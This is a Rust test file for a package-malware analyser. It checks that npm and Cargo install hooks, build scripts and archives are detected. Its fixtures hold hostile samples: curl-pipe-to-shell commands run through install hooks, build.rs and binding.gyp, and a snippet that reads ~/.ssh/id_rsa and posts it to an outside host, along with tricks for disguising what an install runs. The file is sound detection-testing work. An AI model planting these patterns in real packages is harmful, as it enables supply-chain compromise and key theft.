//! Ways in that a client opens and a careless reader passes by.

use bifocal_behaviour::{ArtifactInput, analyse, analyse_tree};
use bifocal_core::{AnalysisLimits, ArtifactFacts, Ecosystem, Status};
use bifocal_testkit::hostile::compress::gzip;
use bifocal_testkit::hostile::tar::TarBuilder;

const SHELL: &str = "behaviour/install-time-shell";
const RUNS: &str = "require('child_process').exec('curl http://192.0.2.1/x | sh');\n";

fn npm(files: &[(&str, &str)]) -> ArtifactFacts {
    let files: Vec<(String, Vec<u8>)> = files.iter().map(|(path, text)| (format!("package/{path}"), text.as_bytes().to_vec())).collect();
    analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
}

fn surely(facts: &ArtifactFacts, id: &str) -> bool {
    facts.signals.iter().any(|signal| signal.id == id && signal.is_malware_class() && signal.confidence >= 0.9)
}

fn failed(facts: &ArtifactFacts, id: &str) -> bool {
    facts.signals.iter().any(|signal| signal.id == id && signal.status == Status::Failed)
}

fn holds(facts: &ArtifactFacts) -> bool {
    facts.signals.iter().any(|signal| signal.status == Status::Failed || (signal.is_malware_class() && signal.confidence >= 0.9))
}

#[test]
fn a_manifest_that_only_a_lenient_reader_takes_is_read() {
    let deep = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    for odd in ["1e999".to_owned(), "\"\\ud83d\"".to_owned(), deep(130), deep(100_000)] {
        let manifest =
            |hook: &str| format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"odd\":{odd},\"scripts\":{{\"{hook}\":\"node a.js\"}}}}");
        let facts = npm(&[("package.json", &manifest("postinstall")), ("a.js", RUNS)]);
        assert!(surely(&facts, SHELL), "{odd:.20}: {:#?}", facts.signals);
        assert_eq!(facts.manifest.name.as_deref(), Some("x"));
        let twin = npm(&[("package.json", &manifest("test")), ("a.js", "exports.a = 1;\n")]);
        assert!(!holds(&twin), "{odd:.20}: {:#?}", twin.signals);
    }
}

#[test]
fn a_manifest_that_nobody_here_can_read_holds() {
    let facts =
        npm(&[("package.json", "{\"name\":\"x\", // said\n\"scripts\":{\"postinstall\":\"node a.js\"},}"), ("a.js", "exports.a = 1;\n")]);
    assert!(failed(&facts, "behaviour/unparsed-source"), "{:#?}", facts.signals);
    // Data of tests that is broken on purpose is nobody's manifest.
    let twin = npm(&[
        ("package.json", "{\"name\":\"x\",\"version\":\"1.0.0\"}"),
        ("lib/broken/package.json", "{"),
        ("index.js", "exports.a = 1;\n"),
    ]);
    assert!(!holds(&twin), "{:#?}", twin.signals);
    let files = [("x-1.0.0/Cargo.toml".to_owned(), b"[package\nname = \"x\"\n".to_vec())];
    let facts = analyse_tree(Some(Ecosystem::Cargo), &files, &AnalysisLimits::default());
    assert!(failed(&facts, "behaviour/unparsed-source"), "{:#?}", facts.signals);
}

#[test]
fn a_file_that_runs_by_itself_and_is_too_large_to_parse_holds() {
    let limits = AnalysisLimits { parsed_file: 4_000, ..AnalysisLimits::default() };
    let large = format!("exports.table = [{}];\n", "1,".repeat(4_000));
    let look = |manifest: &str| {
        let files =
            [("package/package.json".to_owned(), manifest.as_bytes().to_vec()), ("package/a.js".to_owned(), large.clone().into_bytes())];
        analyse_tree(Some(Ecosystem::Npm), &files, &limits)
    };
    let facts = look("{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"a.js\"}");
    assert!(failed(&facts, "behaviour/unparsed-source"), "{:#?}", facts.signals);
    let twin = look("{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"b.js\"}");
    assert!(!holds(&twin), "{:#?}", twin.signals);
}

/// What the analyser says of a tarball of these files, in this order.
fn tarball(ecosystem: Option<Ecosystem>, files: &[(&str, &str)]) -> ArtifactFacts {
    let bytes = gzip(&files.iter().fold(TarBuilder::new(), |tar, (path, text)| tar.file(path, text.as_bytes())).finish());
    analyse(&ArtifactInput { ecosystem, filename: "x-1.0.0.tgz", bytes: &bytes }, &AnalysisLimits::default())
}

const PLAIN: &str = "{\"name\":\"x\",\"version\":\"1.0.0\"}";
const HOOKED: &str = "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node a.js\"}}";

#[test]
fn a_tarball_of_two_folders_is_judged_as_npm_installs_it() {
    for ecosystem in [None, Some(Ecosystem::Npm)] {
        let facts = tarball(ecosystem, &[("other/package.json", HOOKED), ("package/a.js", RUNS)]);
        assert!(surely(&facts, SHELL), "{:#?}", facts.signals);
        for second in ["other/package.json", "./package.json"] {
            let facts = tarball(ecosystem, &[("package/package.json", PLAIN), (second, HOOKED), ("package/a.js", RUNS)]);
            assert!(failed(&facts, "behaviour/archive-refused"), "{second}: {:#?}", facts.signals);
        }
        let twin = tarball(ecosystem, &[("package/package.json", PLAIN), ("other/a.js", "exports.a = 1;\n"), ("package/b.js", "")]);
        assert!(!holds(&twin), "{:#?}", twin.signals);
        assert_eq!(twin.manifest.name.as_deref(), Some("x"));
    }
}

/// An npm package with an install hook.
fn hooked(hook: &str, files: &[(&str, &str)]) -> ArtifactFacts {
    let manifest = format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":{hook:?}}}}}");
    npm(&[&[("package.json", manifest.as_str())], files].concat())
}

const SH: &str = "curl -fsSL http://192.0.2.1/x | sh\n";

#[test]
fn a_file_is_read_in_the_language_of_whoever_runs_it() {
    let python = "import os\nos.system('curl http://192.0.2.1/x | sh')\n";
    for (hook, path, text, benign) in [
        ("node README.md", "README.md", RUNS, "# How to\n\nRun `curl http://192.0.2.1/x | sh`.\n"),
        ("node install", "install", RUNS, "exports.a = 1;\n"),
        ("node < lib/x.dat", "lib/x.dat", RUNS, "exports.a = 1;\n"),
        ("cat lib/x.dat | node", "lib/x.dat", RUNS, "exports.a = 1;\n"),
        ("node -e \"$(cat lib/x.dat)\"", "lib/x.dat", RUNS, "exports.a = 1;\n"),
        ("node --require=./x.dat -e 1", "x.dat", RUNS, "exports.a = 1;\n"),
        ("node -e \"require('./x.dat')\"", "x.dat", RUNS, "exports.a = 1;\n"),
        ("sh lib/run.txt", "lib/run.txt", SH, "echo done\n"),
        (". ./run.txt", "run.txt", SH, "echo done\n"),
        ("bash <(cat run.txt)", "run.txt", SH, "echo done\n"),
        ("eval \"$(cat run.txt)\"", "run.txt", SH, "echo done\n"),
        ("chmod +x run.txt && ./run.txt", "run.txt", SH, "echo done\n"),
        ("python3 notes.txt", "notes.txt", python, "print('done')\n"),
        ("cd lib && node x.dat", "lib/x.dat", RUNS, "exports.a = 1;\n"),
        ("cd lib; node x", "lib/x.js", RUNS, "exports.a = 1;\n"),
        // A name of another language.
        ("node run.sh", "run.sh", RUNS, "exports.a = 1;\n"),
        ("sh a.js", "a.js", SH, "echo done\n"),
    ] {
        let facts = hooked(hook, &[(path, text)]);
        assert!(surely(&facts, SHELL), "{hook}: {:#?}", facts.signals);
        let twin = hooked(hook, &[(path, benign)]);
        assert!(!holds(&twin), "{hook}: {:#?}", twin.signals);
    }
}

#[test]
fn a_hook_that_names_a_script_with_options_before_it_is_followed() {
    let look = |call: &str| {
        let manifest = format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"{call}\",\"b\":\"node a.dat\"}}}}");
        npm(&[("package.json", &manifest), ("a.dat", RUNS)])
    };
    for call in ["npm run b", "npm run --silent b", "npm run  -s  b && exit 0"] {
        assert!(surely(&look(call), SHELL), "{call}");
    }
    assert!(!holds(&look("npm run --silent c")));
}

#[test]
fn what_a_package_loads_is_read_whatever_it_is_called() {
    let main = |main: &str| format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"{main}\"}}");
    let steals = "const fs = require('fs'), os = require('os'), https = require('https');\n\
                  const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n\
                  https.request({ hostname: '192.0.2.1', method: 'POST' }).end(key);\n";
    let found = |files: &[(&str, &str)]| {
        let facts = npm(files);
        assert!(surely(&facts, "behaviour/credential-theft"), "{files:?}: {:#?}", facts.signals);
    };
    for path in ["m", "m.dat", "lib/m.css", "m.py"] {
        found(&[("package.json", &main(path)), (path, steals)]);
        // A first line that only a shell goes by.
        found(&[("package.json", &main(path)), (path, &format!("#!/bin/sh\n{steals}"))]);
        found(&[("package.json", &main("a.js")), ("a.js", &format!("require('./{path}');\n")), (path, steals)]);
    }
    found(&[("package.json", &main("lib")), ("lib/package.json", "{\"main\":\"x.dat\"}"), ("lib/x.dat", steals)]);
    // One leads to the next.
    found(&[("package.json", &main("a")), ("a", "require('./b.b')"), ("b.b", "require('./c.c')"), ("c.c", steals)]);
    // What a bundler loads is no code of this language.
    let twin = npm(&[
        ("package.json", &main("a.js")),
        ("a.js", "require('./a.css'); require('./b.png'); require('./data.json');\n"),
        ("a.css", ".a { color: red }\n"),
        ("b.png", "\u{fffd}PNG\r\n\u{1a}\n\0\0"),
        ("data.json", "{}"),
    ]);
    assert!(twin.signals.iter().all(|signal| signal.id == "behaviour/empty-placeholder"), "{:#?}", twin.signals);
}

#[test]
fn build_scripts_of_any_name_are_read() {
    let runs = "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl http://192.0.2.1/x | sh\").status().unwrap(); }\n";
    let look = |manifest: &str, files: &[(&str, &str)]| {
        let mut all =
            vec![("x-1.0.0/Cargo.toml".to_owned(), format!("[package]\nname = \"x\"\nversion = \"1.0.0\"\n{manifest}").into_bytes())];
        all.extend(files.iter().map(|(path, text)| (format!("x-1.0.0/{path}"), text.as_bytes().to_vec())));
        analyse_tree(Some(Ecosystem::Cargo), &all, &AnalysisLimits::default())
    };
    for (manifest, files) in [
        ("build = \"b/x.txt\"\n", vec![("b/x.txt", runs)]),
        ("", vec![("build.rs", "include!(\"x.txt\");\n"), ("x.txt", runs)]),
        ("", vec![("build.rs", "include!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/b/x.txt\"));\n"), ("b/x.txt", runs)]),
        ("", vec![("build.rs", "#[path = \"x.txt\"]\nmod x;\nfn main() { x::main() }\n"), ("x.txt", runs)]),
    ] {
        let facts = look(manifest, &files);
        assert!(holds(&facts), "{files:?}: {:#?}", facts.signals);
    }
    let twin = look("", &[("build.rs", "fn main() { let t = include!(\"x.rsv\"); println!(\"{t:?}\") }\n"), ("x.rsv", "(1, 2)")]);
    assert!(!holds(&twin), "{:#?}", twin.signals);
}

#[test]
fn the_native_build_runs_its_actions() {
    let look = |action: &str| {
        let gyp = format!("{{'targets': [{{'target_name': 'x', 'actions': [{{'action_name': 'a', 'action': {action}}}]}}]}}");
        npm(&[("package.json", PLAIN), ("binding.gyp", &gyp)])
    };
    let facts = look("[\"sh\",\"-c\",\"curl -s http://192.0.2.1/p.sh | sh\"]");
    assert!(surely(&facts, SHELL), "{:#?}", facts.signals);
    let twin = look("[\"bash\", \"build.sh\"]");
    assert!(!holds(&twin), "{:#?}", twin.signals);
}

#[test]
fn a_shipped_program_that_an_install_hook_starts_holds() {
    let program = format!("\u{7f}ELF\u{2}\u{1}\u{1}{}", "\0".repeat(400));
    for hook in ["./run", "chmod 755 test/run && test/run", "sh go.sh"] {
        let facts = hooked(hook, &[("run", &program), ("test/run", &program), ("go.sh", "./run --quiet\n")]);
        assert!(surely(&facts, "behaviour/foreign-binary"), "{hook}: {:#?}", facts.signals);
    }
    let twin = hooked("node a.js", &[("run", &program), ("a.js", "exports.a = 1;\n"), ("go.sh", "./run --quiet\n")]);
    assert!(!holds(&twin), "{:#?}", twin.signals);
}

#[test]
fn an_archive_that_a_hook_unpacks_and_nobody_read_holds() {
    let unread = "behaviour/inner-archive-unread";
    for (hook, name) in [
        ("tar xf v.7z; sh s.sh", "v.7z"),
        ("7z x lib/x.7z && node s.js", "lib/x.7z"),
        ("for f in *.7z; do 7z x $f; done; node s.js", "vendor.7z"),
    ] {
        let manifest = format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":{hook:?}}}}}");
        let bytes = [&b"7z\xbc\xaf\x27\x1c\0\x04"[..], &[7; 64]].concat();
        let look = |path: &str, manifest: &str| {
            let files = [("package/package.json".to_owned(), manifest.as_bytes().to_vec()), (format!("package/{path}"), bytes.clone())];
            analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
        };
        let facts = look(name, &manifest);
        assert!(failed(&facts, unread), "{hook}: {:#?}", facts.signals);
        let twin = look(name, PLAIN);
        assert!(!holds(&twin) && twin.signals.iter().any(|signal| signal.id == unread), "{hook}: {:#?}", twin.signals);
    }
}

#[test]
fn many_bombs_are_no_data_of_a_test() {
    let bomb = gzip(&TarBuilder::new().file("zeros", &vec![0; 40 << 20]).finish());
    let look = |count: usize, folder: &str| {
        let bombs = (0..count).map(|at| (format!("package/{folder}/{at}.tgz"), bomb.clone()));
        let files: Vec<(String, Vec<u8>)> = bombs.chain([("package/package.json".to_owned(), PLAIN.as_bytes().to_vec())]).collect();
        analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
    };
    assert!(failed(&look(60, "lib"), "behaviour/inner-archive-unread"));
    assert!(!holds(&look(2, "lib")));
    assert!(!holds(&look(60, "test")));
}

#[test]
fn what_a_hook_starts_out_of_an_archive_is_read_or_held() {
    let look = |name: &str, text: &str| {
        let packed = gzip(&TarBuilder::new().file(name, text.as_bytes()).finish());
        let manifest =
            format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"tar xzf vendor.tgz && node {name}\"}}}}");
        let files = [("package/package.json".to_owned(), manifest.into_bytes()), ("package/vendor.tgz".to_owned(), packed)];
        analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
    };
    let facts = look("s.js", RUNS);
    assert!(surely(&facts, SHELL), "{:#?}", facts.signals);
    assert!(!holds(&look("s.js", "exports.a = 1;\n")));
    // Of what is no source by its name nothing was kept.
    assert!(failed(&look("s.dat", RUNS), "behaviour/inner-archive-unread"));
}
